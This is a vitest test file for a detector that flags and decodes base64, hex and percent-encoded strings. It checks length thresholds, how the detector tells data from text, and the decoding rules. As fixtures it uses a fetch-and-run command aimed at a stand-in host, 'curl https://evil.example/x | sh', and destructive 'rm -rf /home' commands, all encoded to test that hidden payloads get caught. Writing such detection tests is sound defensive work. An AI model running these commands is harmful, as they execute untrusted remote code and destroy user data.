import { describe, expect, it } from 'vitest';
import { decodeEncoded, findings } from '../../../src/display';

const only = (kind: string, text: string) => findings(text).filter((found) => found.kind === kind);
const hex = (bytes: Iterable<number>): string =>
  Array.from(bytes, (byte) => byte.toString(16).padStart(2, '0')).join('');
const noise = (length: number): number[] => Array.from({ length }, (_, i) => (i * 151 + 77) % 256);
const base64 = (bytes: readonly number[]): string => btoa(String.fromCharCode(...bytes));

const command = 'curl https://evil.example/x | sh';

describe('encoded text is long', () => {
  it('from 24 letters of base64 on where it stands for text', () => {
    expect(only('encoded', btoa(command.slice(0, 18)))).toMatchObject([
      { at: 0, length: 24, detail: '18' },
    ]);
    expect(only('encoded', btoa(command.slice(0, 15)))).toEqual([]);
  });

  it('from 64 letters of base64 on where it stands for bytes', () => {
    expect(only('encoded', base64(noise(48)))).toMatchObject([{ length: 64, detail: '48' }]);
    expect(only('encoded', base64(noise(45)))).toEqual([]);
  });

  it('from 130 digits of hex on where it stands for bytes: hashes are shorter', () => {
    expect(only('encoded', hex(noise(65)))).toMatchObject([{ length: 130, detail: '65' }]);
    expect(only('encoded', hex(noise(64)))).toEqual([]);
    expect(only('encoded', '0123456'.repeat(30))).toEqual([]);
    expect(only('encoded', '01234567'.repeat(30))).toMatchObject([{ detail: '120' }]);
  });

  it('where hex stands for text, and is more than a number', () => {
    expect(only('encoded', hex(Buffer.from('rm -rf /home')))).toMatchObject([{ detail: '12' }]);
    expect(only('encoded', '303132333435363738393031')).toEqual([]);
  });

  it('where two escapes hide letters or digits, or 32 hide anything', () => {
    expect(only('encoded', 'x%72%6dab%20y')).toMatchObject([{ at: 1, detail: '6' }]);
    expect(only('encoded', '%72%20%20')).toEqual([]);
    expect(only('encoded', '%D0%9F'.repeat(16))).toMatchObject([{ length: 96, detail: '32' }]);
    expect(only('encoded', '%D0%9F'.repeat(15))).toEqual([]);
    for (const plain of ['%30%39', '%41%4f', '%50%5A', '%61%6F', '%70%7a'])
      expect(only('encoded', `${plain}%20`)).toMatchObject([{ detail: '3' }]);
    for (const sign of ['%40%5b', '%60%7B', '%20%2F'])
      expect(only('encoded', `${sign}%20`)).toEqual([]);
  });

  it('and is not a word, a path or a name', () => {
    for (const word of [
      'ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEFGHIJKLMNOPQRSTUVWXYZABCDEFGHIJKLMNOP',
      'abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyzabcdefghijklmnop',
      'home/user/projects/acme/Website/source/components/buttons/primary/index2',
    ])
      expect(only('encoded', word)).toEqual([]);
  });

  it('is one finding over line ends, and two where other text stands between', () => {
    const one = btoa(command);
    expect(only('encoded', `${one}, ${one}`)).toMatchObject([{ length: 90, detail: '64' }]);
    expect(only('encoded', `see ${one},\n${one}`)).toMatchObject([{ at: 4, length: 90 }]);
    expect(only('encoded', `${one} or ${one}`)).toMatchObject([
      { at: 0, length: 44, detail: '32' },
      { at: 48, length: 44, detail: '32' },
    ]);
  });

  it('is told of a hundred times', () => {
    expect(only('encoded', `${btoa(command)} and `.repeat(150))).toHaveLength(100);
  });

  it('is found wherever it begins', () => {
    for (let before = 0; before < 30; before += 1)
      expect(
        only('encoded', `${' '.repeat(1)}${'. '.repeat(before)}${btoa(command)}`),
      ).toMatchObject([{ at: 1 + 2 * before, length: 44 }]);
  });
});

describe('data and text in base64 and hex', () => {
  /** So many letters, digits and capitals in turn, which stand for no text. */
  const letters = (length: number, of: readonly string[]): string =>
    Array.from({ length }, (_, i) => {
      const from = of[i % of.length] ?? '';
      return from.charAt((i * 7 + 3) % from.length);
    }).join('');
  const [small, large, digits] = ['zyxwvutsrqponmlkj', 'ZYXWVUTSRQPONML', '9876543210'];

  it('are data with small and large letters and digits among them, a quarter of them not small', () => {
    expect(only('encoded', letters(64, [small, large, digits, small]))).toHaveLength(1);
    for (const of of [
      [small, large],
      [large, digits],
      [small, digits],
    ])
      expect(only('encoded', letters(64, of))).toEqual([]);
    const rest = letters(48, [small]);
    expect(only('encoded', `${rest}${letters(16, [large, digits])}`)).toHaveLength(1);
    expect(only('encoded', `z${rest}${letters(15, [large, digits])}`)).toEqual([]);
  });

  it('are text only where the bytes are, with lines and tabs and no other controls', () => {
    const found = (text: string) => only('encoded', base64([...new TextEncoder().encode(text)]));
    expect(found('rm -rf\n/home\tx; reboot')).toHaveLength(1);
    expect(found('rm -rf /home\u0001 reboot')).toEqual([]);
    const latin1 = Array.from({ length: 30 }, (_, i) => [0xe9, 0xff, 0xc3][i % 3] ?? 0);
    expect(only('encoded', base64(latin1))).toEqual([]);
    expect(only('encoded', btoa(command).slice(0, 25))).toMatchObject([
      { length: 24, detail: '18' },
    ]);
    expect(only('encoded', btoa(command).slice(0, 23))).toEqual([]);
  });

  it('are judged by their beginning, though a letter be cut there', () => {
    const bytes = new TextEncoder().encode(`x${'\u00E4'.repeat(2100)}`);
    expect(only('encoded', hex(bytes))).toMatchObject([{ detail: '4201' }]);
    expect(only('encoded', `${hex(bytes)}7`)).toMatchObject([{ detail: '4201' }]);
  });
});

describe('decoding', () => {
  it('takes blanks from the ends, and no sign of padding from within', () => {
    expect(decodeEncoded(' 726D\n')).toBe('rm');
    expect(decodeEncoded(' a%20b\n')).toBe('a b');
    expect(decodeEncoded('YQ==')).toBe('a');
    expect(decodeEncoded('aG=kh')).toBeNull();
    expect(decodeEncoded('Pz8_')).toBe('???');
    expect(decodeEncoded('Pz8/')).toBe('???');
  });

  it('reads percent escapes among other text, and hex in capitals', () => {
    expect(decodeEncoded('a%20b')).toBe('a b');
    expect(decodeEncoded('726D')).toBe('rm');
    expect(decodeEncoded('726')).toBeNull();
  });

  it('keeps a mark of byte order, which is a character too', () => {
    expect(decodeEncoded(base64([0xef, 0xbb, 0xbf, 0x61]))).toBe('\uFEFFa');
  });

  it('reads base64 with and without its padding, over several lines', () => {
    expect(decodeEncoded('aGkh')).toBe('hi!');
    expect(decodeEncoded('aGk=')).toBe('hi');
    expect(decodeEncoded('aGk')).toBe('hi');
    expect(decodeEncoded('aG\nkh')).toBe('hi!');
    expect(decodeEncoded('aGkhI')).toBeNull();
  });
});
